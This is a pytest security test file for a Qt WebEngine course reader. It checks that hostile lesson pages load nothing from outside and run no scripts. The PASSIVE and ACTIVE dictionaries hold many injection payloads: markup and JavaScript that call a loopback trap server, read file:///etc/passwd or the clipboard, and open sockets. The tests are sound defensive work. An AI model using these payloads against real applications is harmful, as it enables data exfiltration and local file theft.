"""A hostile page, past the importer's sanitiser, reaches nothing: no file, no network, no other course, no script.

The page is stored as it is, so these tests stand for a hole in the sanitiser. A real server on loopback counts what
arrives; files of the home and of the system are asked for; everything that a page can wish for is wished for.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtWebEngineCore import QWebEnginePage, QWebEngineScript, QWebEngineSettings
from typing_extensions import override

from bench.safety.baits import baits
from bench.safety.canary import Canary
from bench.safety.probes import lesson_of
from tests.desktop.reader.desk import ONE, PICTURE, TWO, block, named

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.desktop.reader.desk import Desk

PAGE_WORLD = QWebEngineScript.ScriptWorldId.MainWorld.value


class Trap:
    """A server of the neighbourhood that writes down whoever knocks: requests, and bare connections too."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            @override
            def handle(self) -> None:
                hits.append("connection")
                super().handle()

            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"caught")

            do_POST = do_GET  # noqa: N815  http.server's own names
            do_HEAD = do_GET  # noqa: N815

            @override
            def log_message(self, format: str, *args: object) -> None:
                """Say nothing on stderr."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        """Take it down."""
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def trap() -> Iterator[Trap]:
    """A server on loopback that nobody should ever reach."""
    made = Trap()
    yield made
    made.close()


PASSIVE = {
    "picture": '<img src="http://{trap}/img">',
    "picture of many": '<img srcset="http://{trap}/srcset 1x">',
    "picture of a file": '<img id="f" src="file:///etc/passwd"><img src="file://{trap}/x">',
    "style sheet": '<link rel="stylesheet" href="http://{trap}/css">',
    "style": '<style>@import "http://{trap}/import"; body {{ background: url(http://{trap}/bg) }}</style>',
    "inline style": '<p style="background: url(http://{trap}/inline)">x</p>',
    "font": "<style>@font-face {{ font-family: x; src: url(http://{trap}/font) }}"
    " p {{ font-family: x }}</style><p>x</p>",
    "frame": '<iframe src="http://{trap}/frame"></iframe>',
    "frame of text": '<iframe srcdoc="<img src=http://{trap}/srcdoc><script>parent.x=1</script>"></iframe>',
    "frame of a file": '<iframe src="file:///etc/passwd"></iframe>',
    "frame of data": '<iframe src="data:text/html,<img src=http://{trap}/data>"></iframe>',
    "object": '<object data="http://{trap}/object"></object><embed src="http://{trap}/embed">',
    "media": '<video src="http://{trap}/v" autoplay poster="http://{trap}/p"></video>'
    '<audio src="http://{trap}/a" autoplay></audio>',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://{trap}/refresh">',
    "refresh to a file": '<meta http-equiv="refresh" content="0;url=file:///etc/passwd">',
    "refresh to script": '<meta http-equiv="refresh" content="0;url=javascript:fetch(\'http://{trap}/js\')">',
    "base": '<base href="http://{trap}/"><img src="based.png">',
    "hints": '<link rel="preload" as="image" href="http://{trap}/pre"><link rel="prefetch" href="http://{trap}/pf">'
    '<link rel="preconnect" href="http://{trap}/"><link rel="dns-prefetch" href="http://{trap}/">',
    "manifest and icon": '<link rel="manifest" href="http://{trap}/m"><link rel="icon" href="http://{trap}/i">',
    "ping": '<a id="bait" href="#x" ping="http://{trap}/ping">x</a>',
    "form": '<form id="form" action="http://{trap}/form" method="post"><input name="a" value="b"></form>',
    "script": '<script>fetch("http://{trap}/fetch")</script><script src="http://{trap}/script"></script>',
    "handler": '<img src="/blob/none" onerror="fetch(\'http://{trap}/onerror\')">'
    "<body onload=\"fetch('http://{trap}/l')\">",
    "picture with script": '<svg onload="fetch(\'http://{trap}/svg\')"><image href="http://{trap}/svgimage"/></svg>',
    "picture of a picture": '<img src="/blob/{svg}/x.svg"><object data="/blob/{svg}/x.svg"></object>',
    "speculation": '<script type="speculationrules">{{"prefetch":[{{"urls":["http://{trap}/spec"]}}]}}</script>',
}


@pytest.mark.parametrize("bait", PASSIVE)
def test_a_page_loads_nothing_from_outside(desk: Desk, trap: Trap, bait: str) -> None:
    """Whatever a page asks for by its markup, nobody knocks at the server, and the page stays where it is."""
    inside = f'<image href="http://{trap.address}/in"/><script>x</script>'
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'.encode()
    markup = PASSIVE[bait].format(trap=trap.address, svg=named(svg))
    desk.stock(block("b1", f"<p>First.</p>{markup}<p>Last.</p>"), pictures=(PICTURE, svg))
    desk.open(ONE)
    desk.script("document.getElementById('bait')?.click(); document.getElementById('form')?.submit()")
    _let_everything_happen(desk)
    assert trap.hits == []
    assert desk.script("location.protocol + document.querySelector('h1').textContent") == "carrel:Lesson 1"


ACTIVE = {
    "fetch": "fetch('http://{trap}/fetch')",
    "fetch of a file": "fetch('file:///etc/passwd').then((a) => a.text()).then((a) => {{ document.title = a }})",
    "request": "(() => {{ const r = new XMLHttpRequest(); r.open('GET', 'http://{trap}/xhr'); r.send() }})()",
    "beacon": "navigator.sendBeacon('http://{trap}/beacon', 'x')",
    "socket": "new WebSocket('ws://{trap}/ws')",
    "events": "new EventSource('http://{trap}/events')",
    "peer": "(() => {{ const p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{trap}'}}]}}); "
    "p.createDataChannel('x');"
    " p.createOffer().then((o) => p.setLocalDescription(o)) }})()",
    "picture": "(() => {{ new Image().src = 'http://{trap}/image' }})()",
    "window": "window.open('http://{trap}/window')",
    "location": "(() => {{ location.href = 'http://{trap}/location' }})()",
    "location of a file": "(() => {{ location.href = 'file:///etc/passwd' }})()",
    "location of data": "(() => {{ location.href = 'data:text/html,<h1>x</h1>' }})()",
    "script url": "(() => {{ location.href = 'javascript:document.title=1' }})()",
    "worker": "new Worker('data:text/javascript,fetch(\"http://{trap}/worker\")')",
    "import": "import('http://{trap}/import')",
    "another edition": "fetch('carrel://feedfeedfeedfeed/lesson/" + TWO + "')",
    "clipboard": "navigator.clipboard?.readText().then((a) => {{ document.title = a }})",
    "place": "navigator.geolocation?.getCurrentPosition(() => {{ document.title = 'found' }})",
    "notification": "Notification.requestPermission()",
}


@pytest.mark.parametrize("wish", ACTIVE)
def test_even_a_page_whose_scripts_run_gets_nowhere(desk: Desk, trap: Trap, wish: str) -> None:
    """With JavaScript switched on by force, in the page's own world: still no request, no file, no new window."""
    page = _unleash(desk)
    desk.script(f"try {{ {ACTIVE[wish].format(trap=trap.address)} }} catch (e) {{}}; true", PAGE_WORLD)
    desk.script("document.title", PAGE_WORLD)
    assert page.url().scheme() == "carrel"
    _let_everything_happen(desk)
    assert trap.hits == []
    assert desk.script("location.protocol + document.title") == "carrel:Lesson 1"
    assert page.url().scheme() == "carrel"


@pytest.mark.parametrize("source", ["markdown", "olx", "svg", "raw"])
def test_imported_probes_reach_nobody(desk: Desk, tmp_path: Path, source: str) -> None:
    """Nine probes through the real importers, as a picture, and past the sanitiser; all: `bench.safety.probes`."""
    canary = Canary(tmp_path)
    probes = list(baits(canary.net, canary.udp, str(canary.file)).values())[::6]
    made = [lesson_of(source, markup, tmp_path / f"{number}") for number, markup in enumerate(probes)]
    pictures = {picture for _, pictures in made for picture in pictures}
    desk.stock(*(page + block("end", "<p>Last.</p>") for page, _ in made), pictures=tuple(pictures))
    canary.take()
    for number in range(1, len(made) + 1):
        desk.open(str(number) * 16)
        assert desk.script("location.protocol + document.querySelector('h1').textContent") == f"carrel:Lesson {number}"
    desk.open(ONE)
    assert canary.take() == []
    canary.close()


def test_scripts_of_a_page_do_not_run(desk: Desk) -> None:
    """Neither elements, nor handlers, nor links with script do anything."""
    desk.stock(
        block(
            "b1",
            "<script>document.title = 'script'</script><img src='/blob/x' onerror=\"document.title = 'onerror'\">"
            "<a id='bait' href=\"javascript:document.title = 'link'\">x</a>"
            "<p onclick=\"document.title='click'\" id='p'>x</p>",
        )
    )
    desk.open(ONE)
    desk.script("document.getElementById('bait').click(); document.getElementById('p').click()")
    _let_everything_happen(desk)
    assert desk.script("document.title") == "Lesson 1"


def test_the_page_does_not_see_our_script(desk: Desk) -> None:
    """The bridge and the commands live in a world of their own."""
    _unleash(desk)
    seen = "[typeof qt, typeof carrel, typeof QWebChannel].join()"
    assert desk.script(seen, PAGE_WORLD) == "undefined,undefined,undefined"


def test_a_file_of_another_edition_is_not_given_out(desk: Desk) -> None:
    """A blob that the edition does not name is not there, even if it lies in the same folder."""
    secret = b"<svg xmlns='http://www.w3.org/2000/svg'><!-- of another course --></svg>"
    desk.home.blobs.keep(named(secret), secret)
    desk.stock(
        block(
            "b1",
            f'<p>x</p><img id="mine" src="/blob/{named(PICTURE)}/a.svg">'
            f'<img id="other" src="/blob/{named(secret)}/b.svg">',
        )
    )
    desk.open(ONE)
    desk.until(lambda: desk.script("document.getElementById('mine').naturalWidth > 0"))
    assert desk.script("document.getElementById('other').naturalWidth") == 0


@pytest.mark.parametrize(
    "address", ["file:///etc/passwd", "http://{trap}/x", "data:text/html,x", "carrel://other/lesson/" + ONE]
)
def test_the_view_itself_goes_nowhere_else(desk: Desk, trap: Trap, address: str) -> None:
    """Even our own code cannot make the page load what is not a lesson on the shelf."""
    desk.open(ONE)
    page = desk.reader.spread.area.view.page
    assert page is not None
    page.load(QUrl(address.format(trap=trap.address)))
    _let_everything_happen(desk)
    assert trap.hits == []
    assert "root:" not in (desk.script("document.body.textContent") or "")


def test_a_link_to_the_web_is_asked_about_and_not_followed(desk: Desk, trap: Trap) -> None:
    """A click on an outside link tells where it wants to go; the page stays, nothing is sent."""
    desk.stock(block("b1", f'<a id="out" href="http://{trap.address}/page">x</a>'))
    desk.open(ONE)
    area = desk.reader.spread.area
    area.outside_requested.disconnect()
    with desk.qtbot.waitSignal(area.outside_requested) as heard:
        desk.script("document.getElementById('out').click()")
    assert heard.args[0].toString() == f"http://{trap.address}/page"
    assert trap.hits == []


def test_a_file_of_the_course_is_saved_by_us(desk: Desk) -> None:
    """A download link asks where to save; Chromium itself downloads nothing."""
    desk.stock(block("b1", f'<a id="get" download href="/blob/{named(PICTURE)}/notes.svg">x</a>'))
    desk.open(ONE)
    area = desk.reader.spread.area
    area.file_requested.disconnect()
    with desk.qtbot.waitSignal(area.file_requested) as heard:
        desk.script("document.getElementById('get').click()")
    assert (heard.args[0].blob, heard.args[0].name) == (named(PICTURE), "notes.svg")


def _let_everything_happen(desk: Desk) -> None:
    """No sleep: the page is opened once more, and by then whatever it asked for the first time has been answered."""
    desk.until(lambda: desk.script("document.readyState") == "complete")
    assert desk.script("location.protocol") == "carrel:"
    desk.open(ONE)


def _unleash(desk: Desk) -> QWebEnginePage:
    """Switch JavaScript on in the page's own world, which the product never does, and see that it runs."""
    desk.open(ONE)
    page = desk.reader.spread.area.view.page
    assert page is not None
    page.settings().setAttribute(QWebEngineSettings.WebAttribute.JavascriptEnabled, True)
    desk.open(ONE)
    desk.until(lambda: desk.script("1 + 1", PAGE_WORLD) == 2)
    return page
